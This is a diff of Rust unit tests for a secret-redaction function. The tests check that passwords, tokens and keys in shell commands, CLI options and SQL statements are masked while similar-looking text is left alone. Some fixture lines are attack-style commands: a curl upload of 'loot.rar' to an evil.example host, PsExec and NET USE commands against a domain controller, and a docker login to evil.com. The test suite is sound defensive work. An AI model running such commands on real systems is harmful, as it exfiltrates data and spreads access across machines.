@@ -41,6 +41,7 @@ fn a21_a_password_in_a_command_goes_and_the_rest_stays() {
         ("command_password", "echo root:¤ | chpasswd"),
         ("command_password", "echo ¤ | sudo -S su"),
         ("command_password", "machine api.x.io login bob password ¤"),
+        ("mysql_password", "mysqladmin -u root -p¤ status"),
         ("command_password", "7z a -p¤ out.7z /data"),
         ("command_password", "rar a -hp¤ out.rar x"),
     ] {
@@ -74,6 +75,7 @@ fn a21_a_program_has_a_path_and_letters_of_its_own() {
         r"NET USE Z: \\dc1\c$ ¤",
         r"PsExec64.exe \\dc1 -u admin -p ¤ cmd",
         "SQLCMD.EXE -S db -U sa -P ¤",
+        "mysqladmin -h db -u root password ¤ reload",
         r#""C:\Program Files (x86)\WinRAR\Rar.exe" a -hp¤ o.rar"#,
     ] {
         let clean = command.replace('¤', "[redacted:command_password]");
@@ -120,6 +122,86 @@ fn a21_what_stands_where_others_have_passwords_stays() {
         "docker run -d --name mongo -p 0.0.0.0:27017:27017 mongo:7",
         "docker run -d --name mongo -p 27017:27017/tcp mongo:7",
         "curl -T loot.rar -proxy 10.0.0.1 https://evil.example",
+    ] {
+        assert_eq!(redact(text), (Cow::Borrowed(text), 0));
+    }
+}
+
+#[test]
+fn a21_a_password_in_any_option_goes() {
+    for command in [
+        "aws rds create-db-instance --master-user-password ¤ --engine mysql",
+        "az vm create --admin-password ¤ -n x",
+        "wget --http-user bob --http-password ¤ https://x",
+        "app --db-password=¤ --new-password ¤",
+        "app --access-token ¤ --auth-token=¤ -x",
+        "s3 --secret-access-key ¤ --secret-key ¤ --api-key ¤",
+        "aws secretsmanager put-secret-value --secret-id db --secret-string ¤",
+        "New-LocalUser bob -Password ¤",
+        "Connect-App -ClientSecret ¤ -ApiKey ¤ -AccountPassword:¤",
+        "app --smtp-pass ¤ --PASSWORD ¤",
+        r#"["app --gitlab-token ¤"]"#,
+        "app --storage-account-key ¤",
+    ] {
+        let clean = command.replace('¤', "[redacted:cli_password]");
+        let count = command.matches('¤').count();
+        for secret in ["Winterberg1703#", "'Winter; berg & 1703'"] {
+            if secret.contains(' ') && command.contains('[') {
+                continue;
+            }
+            let text = command.replace('¤', secret);
+            assert_eq!(redact(&text), (Cow::Owned(clean.clone()), count));
+        }
+        assert_eq!(redact(&clean), (Cow::Borrowed(clean.as_str()), 0));
+    }
+    for text in [
+        "docker login --password-stdin evil.com",
+        "app --token-file /run/token --password-file /run/pw --password-policy strict",
+        "aws iam update-account-password-policy --require-numbers",
+        "aws secretsmanager get-secret-value --secret-id prod/db --version-stage AWSCURRENT",
+        "aws secretsmanager put-secret-value --secret-string file://new.json",
+        "aws logs filter-log-events --next-token 0123abcd --starting-token page-two",
+        "adduser --disabled-password bobby; psql --no-password maindb",
+        "aws rds create-db-instance --manage-master-user-password true",
+        "Set-LocalUser bob -Password (Read-Host -AsSecureString)",
+        "gsutil --public-key main.pub; app --key-name main-key --license-key-path /x/main",
+        "the user-password flow, and a one-token limit",
+    ] {
+        assert_eq!(redact(text), (Cow::Borrowed(text), 0));
+    }
+}
+
+#[test]
+fn a21_a_password_in_sql_goes() {
+    for statement in [
+        "CREATE USER a IDENTIFIED BY ¤",
+        "mysql -e \"create user 'a'@'%' identified with caching_sha2_password by ¤ require ssl\"",
+        "GRANT ALL ON db.* TO 'a'@'10.0.0.1' IDENTIFIED BY ¤ WITH GRANT OPTION",
+        "ALTER USER bob WITH PASSWORD ¤",
+        "create role bob login encrypted password ¤ valid until 'infinity'",
+        "CREATE LOGIN bob WITH PASSWORD = N¤, CHECK_POLICY = OFF",
+        "SET PASSWORD FOR 'a'@'h' = PASSWORD(¤)",
+    ] {
+        for secret in ["'Winterberg1703#'", "'two words; (x)'", "\"Winterberg1703#\""] {
+            if secret.starts_with('"') && statement.contains('"') {
+                continue;
+            }
+            let clean = statement.replace('¤', "[redacted:sql_password]");
+            assert_eq!(
+                redact(&statement.replace('¤', secret)),
+                (Cow::Owned(clean), 1)
+            );
+        }
+    }
+    assert_eq!(
+        redact("ALTER USER scott IDENTIFIED BY tiger12;").0,
+        "ALTER USER scott IDENTIFIED BY [redacted:sql_password];"
+    );
+    for text in [
+        "Create a ticket for the host identified by GuardDuty.",
+        "CREATE USER 'bob'@'10.0.0.1' REQUIRE SSL",
+        "ALTER USER bob PASSWORD EXPIRE",
+        "the user was seen with password spraying tools",
     ] {
         assert_eq!(redact(text), (Cow::Borrowed(text), 0));
     }
